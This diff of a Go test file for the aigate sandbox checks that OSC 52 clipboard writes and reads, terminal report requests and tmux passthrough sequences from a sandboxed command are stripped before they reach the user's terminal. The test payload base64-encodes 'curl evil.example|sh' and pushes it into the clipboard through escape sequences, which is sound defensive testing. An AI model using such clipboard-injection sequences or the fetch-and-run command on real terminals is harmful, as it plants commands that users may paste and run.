@@ -3,66 +3,162 @@
 package escape
 
 import (
-	"fmt"
+	"io"
+	"os"
+	"os/exec"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
 	"github.com/creack/pty"
-	"golang.org/x/sys/unix"
 
-	"github.com/aigate-dev/aigate/internal/events"
+	"github.com/aigate-dev/aigate/internal/e2e"
+	"github.com/aigate-dev/aigate/internal/testutil"
 )
 
-// TestEscapeOtherTerminal: another terminal of the user (a terminal
-// window, a tmux pane: a pseudo-terminal the user owns, held by processes
-// outside) is out of the sandbox's reach. Opened by its name from inside,
-// it could be read (what is typed there, a sudo password among it, goes
-// to whichever reader comes first) and written (fake output, an OSC 52
-// clipboard write). The LSM backend refuses the open with a read event;
-// fanotify sees it after the fact, kills the sandbox and reports an open
-// event (the write in between is not undone: docs/threat-model.md). A
-// pseudo-terminal the sandbox makes itself (os.openpty, then its name
-// opened, as expect and Go's pty packages do) keeps working.
-func TestEscapeOtherTerminal(t *testing.T) {
+// terminalAttack writes, to every way the command has to the terminal
+// (stdout, stderr, /dev/tty), a clipboard write (OSC 52, BEL- and
+// ST-terminated), a clipboard read, the window-title report request, a
+// DECRQSS and a tmux passthrough carrying OSC 52, between text that
+// must pass.
+const terminalAttack = `
+b64=Y3VybCBldmlsLmV4YW1wbGV8c2gK
+printf 'before\033]52;c;%s\007mid\033]52;c;%s\033\\' $b64 $b64
+printf '\033]52;c;?\007\033[21t\033P$qm\033\\\033Ptmux;\033\033]52;c;%s\007\033\\' $b64
+printf '\033]52;p;%s\007' $b64 >&2
+[ -w /dev/tty ] && printf '\033]52;s;%s\007' $b64 >/dev/tty
+printf '\033]0;title-ok\007\033[1mbold-ok\033[0m after\n'
+`
+
+// TestEscapeTerminal: what a sandboxed command writes to its terminal
+// reaches the user's terminal without the sequences that set or read the
+// clipboard or make the terminal type text back, and run says it dropped
+// them once the command ended. With stdin a terminal (the pty's input
+// path) and without (output only).
+func TestEscapeTerminal(t *testing.T) {
 	eachBackend(t, func(t *testing.T, b *box) {
-		master, slave, err := pty.Open()
+		for _, stdinTTY := range []bool{true, false} {
+			name := "stdin-tty"
+			if !stdinTTY {
+				name = "stdin-null"
+			}
+			t.Run(name, func(t *testing.T) {
+				got := b.onTerminal(t, stdinTTY, "sh", "-c", terminalAttack)
+				if strings.Contains(got, "]52") || strings.Contains(got, "Y3VybCBldmls") {
+					t.Errorf("a clipboard sequence reached the terminal:\n%q", got)
+				}
+				for _, bad := range []string{"\x1b[21t", "$qm", "tmux;"} {
+					if strings.Contains(got, bad) {
+						t.Errorf("%q reached the terminal:\n%q", bad, got)
+					}
+				}
+				for _, want := range []string{"beforemid", "\x1b]0;title-ok\x07\x1b[1mbold-ok\x1b[0m after",
+					"dropped a clipboard write or read (OSC 52)",
+					"dropped a request to report the window title",
+					"dropped a request to report terminal settings (DECRQSS)",
+					"dropped a device control string"} {
+					if !strings.Contains(got, want) {
+						t.Errorf("the terminal lacks %q:\n%q", want, got)
+					}
+				}
+				if n := strings.Count(got, "(OSC 52)"); n != 1 {
+					t.Errorf("the clipboard drop reported %d times, want once:\n%q", n, got)
+				}
+			})
+		}
+		// aigate run -- tool | less: only stderr is the terminal, and
+		// reaches it through a filtering pipe. (The command still holds
+		// the terminal as stdin and /dev/tty there: threat-model.md.)
+		t.Run("stdout-pipe", func(t *testing.T) {
+			var stdout testutil.SyncBuffer
+			got := b.onTerminalOut(t, true, &stdout, "sh", "-c",
+				`printf 'err-before\033]52;c;Y3VybCBldmls\007\033[21terr-after\n' >&2; printf 'to-the-pipe\n'`)
+			if strings.Contains(got, "]52") || strings.Contains(got, "[21t") {
+				t.Errorf("a sequence to drop reached the terminal through stderr:\n%q", got)
+			}
+			for _, want := range []string{"err-beforeerr-after", "dropped a clipboard write or read (OSC 52)"} {
+				if !strings.Contains(got, want) {
+					t.Errorf("the terminal lacks %q:\n%q", want, got)
+				}
+			}
+			if stdout.String() != "to-the-pipe\n" {
+				t.Errorf("stdout (a pipe) got %q", stdout.String())
+			}
+		})
+	})
+}
+
+// onTerminal runs `aigate run -- argv` as the user on a terminal of its
+// own (a pty whose slave is the user's, stdin too when stdinTTY) and
+// returns all that reached the terminal.
+func (b *box) onTerminal(t *testing.T, stdinTTY bool, argv ...string) string {
+	t.Helper()
+	return b.onTerminalOut(t, stdinTTY, nil, argv...)
+}
+
+// onTerminalOut is onTerminal with stdout to out instead (nil: the
+// terminal).
+func (b *box) onTerminalOut(t *testing.T, stdinTTY bool, out io.Writer, argv ...string) string {
+	t.Helper()
+	master, tty, err := pty.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer master.Close()
+	defer tty.Close()
+	if err := os.Chown(tty.Name(), int(machine.uid), int(machine.gid)); err != nil {
+		t.Fatal(err)
+	}
+	cmd := b.asUser(exec.Command(machine.bin, append([]string{"run", "--"}, argv...)...))
+	cmd.SysProcAttr.Setpgid = false
+	cmd.SysProcAttr.Setsid, cmd.SysProcAttr.Setctty = true, true
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
+	if out != nil {
+		cmd.Stdout = out
+	}
+	ctty := 0
+	if !stdinTTY {
+		devnull, err := os.Open(os.DevNull)
 		if err != nil {
 			t.Fatal(err)
 		}
-		defer master.Close()
-		defer slave.Close()
-		b.chown(slave.Name())
-		script := fmt.Sprintf(`python3 -c 'import os; m, s = os.openpty(); os.open(os.ttyname(s), os.O_RDWR | os.O_NOCTTY); print("own-pty-ok")'
-if printf 'echo pwned\n' > %[1]s; then echo WROTE; else echo REFUSED; fi
-sleep 30; echo survived`, slave.Name())
-		r := b.sh(script)
-		if !strings.Contains(r.stdout, "own-pty-ok") {
-			t.Errorf("the sandbox could not use a pseudo-terminal of its own:\n%s", r)
-		}
-		if b.backend == "lsm" {
-			if !strings.Contains(r.stdout, "REFUSED") {
-				t.Errorf("the open of the user's other terminal was not refused:\n%s", r)
+		defer devnull.Close()
+		cmd.Stdin, ctty = devnull, 1
+	}
+	cmd.SysProcAttr.Ctty = ctty
+	seen := &testutil.SyncBuffer{}
+	copied := make(chan struct{})
+	go func() {
+		defer close(copied)
+		buf := make([]byte, 4096)
+		for {
+			n, err := master.Read(buf)
+			seen.Write(buf[:n])
+			if err != nil {
+				return
 			}
-			if _, ok := r.denied(events.OpRead, slave.Name()); !ok {
-				t.Errorf("no read event for %s:\n%s", slave.Name(), r)
-			}
-			// Nothing reached the terminal.
-			if err := unix.SetNonblock(int(master.Fd()), true); err != nil {
-				t.Fatal(err)
-			}
-			master.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
-			buf := make([]byte, 64)
-			if n, _ := master.Read(buf); n > 0 {
-				t.Errorf("the other terminal got %q", buf[:n])
-			}
-			return
 		}
-		if _, ok := r.denied(events.OpOpen, slave.Name()); !ok {
-			t.Errorf("no open event for %s:\n%s", slave.Name(), r)
+	}()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waited := make(chan error, 1)
+	go func() { waited <- cmd.Wait() }()
+	select {
+	case err := <-waited:
+		if code := e2e.ExitCodeOf(t, err); code != 0 {
+			t.Fatalf("exit %d\n%q", code, seen.String())
 		}
-		if strings.Contains(r.stdout, "survived") || r.code == 0 {
-			t.Errorf("the sandbox outlived its open of the user's other terminal:\n%s", r)
-		}
-	})
+	case <-time.After(runLimit):
+		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+		<-waited
+		t.Fatalf("aigate on a terminal did not finish:\n%q", seen.String())
+	}
+	tty.Close()
+	select {
+	case <-copied:
+	case <-time.After(5 * time.Second):
+	}
+	return seen.String()
 }
